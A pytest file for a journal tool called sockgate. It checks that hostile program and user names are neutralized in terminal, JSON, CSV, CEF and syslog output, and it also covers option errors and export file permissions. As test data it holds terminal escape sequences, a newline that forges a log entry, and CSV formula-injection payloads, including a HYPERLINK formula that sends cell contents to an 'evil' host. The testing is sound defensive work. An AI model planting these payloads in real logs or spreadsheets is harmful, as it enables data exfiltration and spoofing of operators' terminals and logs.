"""Issue 13, findings 4, 5 and 6 (journal side), written as the attacks: hostile text a local
user (a binary's name) or an IBM i file (a user name) puts into the journal must reach
neither the terminal nor a SIEM or a spreadsheet as anything but text; bad option values
get a message naming the option, never a traceback; export files are 0600 whatever the
umask."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys

import pytest
from conftest import SRC, T0, decision, run_cli

from sockgate.journal import Code, Entry, EntryType, Journal, Outcome, Source
from sockgate.journal.export import csv_lines, to_cef, to_json, to_rfc5424

ESC = "\x1b"
# What a hostile user can name a binary (any byte but NUL and "/" per component) or an
# IBM i import can put in a user name.
HOSTILE_PROGRAM = "/tmp/[/]x"
SPOOF_USER = f"root{ESC}[2J{ESC}[H[bold red]evil[/]\x9b31m\r\u2028\u0085\u202eabc"
NEWLINE_PROGRAM = "/tmp/x\nSK-C 1 2026 root allowed"
FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"click")', "+1+2", "-3+4", "@SUM(A1)", "\tx", "\rx"]


def hostile(i: int, **kw) -> Entry:
    fields = dict(program=HOSTILE_PROGRAM, user=SPOOF_USER)
    fields.update(kw)
    return decision(i, **fields)


@pytest.fixture
def hjdir(jdir):
    with Journal.open(jdir, host="web1") as j:
        j.append([hostile(0), hostile(1, program=NEWLINE_PROGRAM),
                  *(hostile(2 + k, rule=f, user=f) for k, f in enumerate(FORMULAS))])
    return jdir


def _no_terminal_controls(text: str) -> None:
    for c in text:
        if c in "\n":
            continue
        assert not (ord(c) < 0x20 or 0x7f <= ord(c) <= 0x9f or c in "\u2028\u2029\u202e"), repr(c)


def test_show_table_prints_hostile_names_as_text(hjdir):
    code, out, err = run_cli("journal", "show", "--journal", str(hjdir))
    assert code == 0, err            # before: rich MarkupError, a traceback and no output
    assert "Traceback" not in err
    assert HOSTILE_PROGRAM in out    # the name as it is, not eaten as markup
    assert "[bold red]evil[/]" in out
    _no_terminal_controls(out)       # before: ESC[2J reached the terminal, \r rewrote the line
    assert "\\x1b[2J" in out and "\\r" in out and "\\u2028" in out
    # one line per entry (plus the header): the newline in a program name is shown, not obeyed
    assert len(out.splitlines()) == 1 + 8
    assert "\\nSK-C 1 2026 root allowed" in out


def test_show_table_on_a_terminal_gets_no_escapes(hjdir):
    """The same through a pseudo-terminal: rich's terminal mode must not let ESC through."""
    import pty

    env = {"PYTHONPATH": str(SRC), "PATH": "/usr/bin:/bin", "COLUMNS": "300", "TERM": "dumb"}
    pid, fd = pty.fork()
    if pid == 0:  # child
        os.execve(sys.executable, [sys.executable, "-c",
                                   "import sys; from sockgate.cli import main; main(sys.argv[1:])",
                                   "journal", "show", "--journal", str(hjdir)], env)
    chunks = []
    while True:
        try:
            b = os.read(fd, 65536)
        except OSError:
            break
        if not b:
            break
        chunks.append(b)
    _, status = os.waitpid(pid, 0)
    out = b"".join(chunks).decode("utf-8", "replace")
    assert os.waitstatus_to_exitcode(status) == 0, out
    assert "[2J" not in out.replace("\\x1b[2J", "")
    assert ESC + "[2J" not in out and "\x9b" not in out


def test_show_json_and_csv_one_line_per_entry(hjdir):
    code, out, err = run_cli("journal", "show", "--journal", str(hjdir), "--format", "json")
    assert code == 0, err
    lines = out.split("\n")[:-1]
    assert len(lines) == 8 and json.loads(lines[1])["program"] == NEWLINE_PROGRAM
    code, out, err = run_cli("journal", "show", "--journal", str(hjdir), "--format", "csv")
    assert code == 0, err
    assert len(out.split("\n")[:-1]) == 1 + 8


def test_csv_one_record_per_line_and_formulas_neutralized():
    entries = [hostile(1, program=NEWLINE_PROGRAM, extra={"note": "a\nb\r\nc\u2028d"}),
               *(hostile(2 + k, rule=f, user=f) for k, f in enumerate(FORMULAS))]
    for e, s in zip(entries, range(1, 99)):
        e.seq = s
    lines = list(csv_lines(entries))
    text = "\n".join(lines) + "\n"
    # a naive line reader sees one entry per line (before: the newline split the entry)
    assert len(text.splitlines()) == 1 + len(entries)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["program"] == "/tmp/x\\nSK-C 1 2026 root allowed"
    assert json.loads(rows[0]["extra"]) == {"note": "a\nb\r\nc\u2028d"}  # JSON keeps it exact
    for row, f in zip(rows[1:], FORMULAS):
        # OWASP: a cell that starts with = + - @ tab or CR is prefixed with a quote
        assert row["rule"] == "'" + f.replace("\t", "\\t").replace("\r", "\\r") or \
            row["rule"] == "'" + f, (row["rule"], f)
        assert row["user"][0] == "'"
    # numbers stay numbers: a negative value would be a formula only if it were text
    assert rows[1]["uid"] == "33" and rows[1]["seq"] == "2"


def test_csv_negative_numbers_are_not_quoted():
    e = decision(1, extra={"delta": -5})
    e.seq = 1
    row = next(csv.DictReader(io.StringIO("\n".join(csv_lines([e])))))
    assert row["pid"] == "1001" and json.loads(row["extra"]) == {"delta": -5}


def test_json_escapes_line_separators():
    e = hostile(1, program="/tmp/a\u2028b\u2029c\u0085d")
    e.seq = 1
    line = to_json(e)
    # JavaScript and many line readers end a line at U+2028/U+2029/U+0085: they must be escaped
    assert not any(c in line for c in "\u2028\u2029\u0085") and len(line.splitlines()) == 1
    assert "\\u2028" in line and json.loads(line)["program"] == "/tmp/a\u2028b\u2029c\u0085d"


def test_cef_and_rfc5424_still_one_line():
    for i, e in enumerate([hostile(1, program=NEWLINE_PROGRAM), hostile(2, user=SPOOF_USER),
                           hostile(3, extra={"k\n": "v\u2028\r"})], 1):
        e.seq = i
        for line in (to_cef(e), to_rfc5424(e)):
            assert len(line.splitlines()) == 1, line
            _no_terminal_controls(line)


@pytest.mark.parametrize("args,option", [
    (["--from-seq", "99999999999999999999"], "--from-seq"),
    (["--to-seq", "99999999999999999999"], "--to-seq"),
    (["--last", "99999999999999999999"], "--last"),
    (["--since", "0001-01-01"], "--since"),
    (["--until", "9999-12-31"], "--until"),
    (["--since", "9" * 400 + "d"], "--since"),
    (["--since", "9" * 5000], "--since"),
    (["--user", "99999999999999999999"], "--user"),
    (["--user", "9" * 5000], "--user"),
    (["--user", "\u00b2"], None),  # a Unicode digit is a name, not a uid: no error
    (["--remote", "999.999.999.999"], "--remote"),
    (["--port", "99999999999999999999"], "--port"),
])
def test_show_bad_option_values_are_messages(jdir, args, option):
    with Journal.open(jdir) as j:
        j.append([decision(1)])
    code, out, err = run_cli("journal", "show", "--journal", str(jdir), *args)
    assert "Traceback" not in err, err
    if option is None:
        assert code == 0, err
        return
    assert code == 2, (code, err)
    assert option in err, err


def test_top_and_export_bad_option_values_are_messages(jdir):
    with Journal.open(jdir) as j:
        j.append([decision(1)])
    for cmd in (["top"], ["export", "--format", "json"]):
        code, out, err = run_cli("journal", *cmd, "--journal", str(jdir), "--from-seq", "9" * 30)
        assert code == 2 and "--from-seq" in err and "Traceback" not in err, err


def test_export_file_is_0600_under_umask_000(jdir, tmp_path):
    with Journal.open(jdir) as j:
        j.append([decision(1)])
    out = tmp_path / "export.json"
    code = "import os, sys; os.umask(0); from sockgate.cli import main; main(sys.argv[1:])"
    env = {"PYTHONPATH": str(SRC), "PATH": "/usr/bin:/bin"}
    for fmt in ("json", "csv", "cef", "rfc5424"):
        if out.exists():
            out.unlink()
        p = subprocess.run([sys.executable, "-c", code, "journal", "export", "--journal", str(jdir),
                            "--format", fmt, "-O", str(out)], capture_output=True, text=True, env=env)
        assert p.returncode == 0, p.stderr
        assert stat.S_IMODE(out.stat().st_mode) == 0o600, (fmt, oct(out.stat().st_mode))


def test_export_over_an_existing_file_makes_it_0600(jdir, tmp_path):
    with Journal.open(jdir) as j:
        j.append([decision(1)])
    out = tmp_path / "old.csv"
    out.write_text("previous world-readable export\n" * 100)
    out.chmod(0o644)
    code, _, err = run_cli("journal", "export", "--journal", str(jdir), "--format", "csv", "-O", str(out))
    assert code == 0, err
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert "previous" not in out.read_text()


def test_show_streams_in_bounded_memory(jdir):
    """Peak memory of `journal show` must not grow with the journal: 20k entries cost no
    more than a few MB over 2k (before: every entry and every rich row were held)."""
    peaks = {}
    for n in (2_000, 20_000):
        d = jdir.parent / f"j{n}"
        with Journal.open(d, sync="OFF") as j:
            j.append(decision(i) for i in range(n))
        code = ("import resource, sys; from sockgate.cli import main\n"
                "try:\n    main(sys.argv[1:])\n"
                "except SystemExit:\n    pass\n"
                "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr)")
        p = subprocess.run([sys.executable, "-c", code, "journal", "show", "--journal", str(d)],
                           capture_output=True, text=True, env={"PYTHONPATH": str(SRC), "PATH": "/usr/bin:/bin"},
                           timeout=300)
        assert p.stdout.count("\n") == n + 1
        peaks[n] = int(p.stderr.strip().splitlines()[-1])
    assert peaks[20_000] - peaks[2_000] < 8_000, peaks   # KB
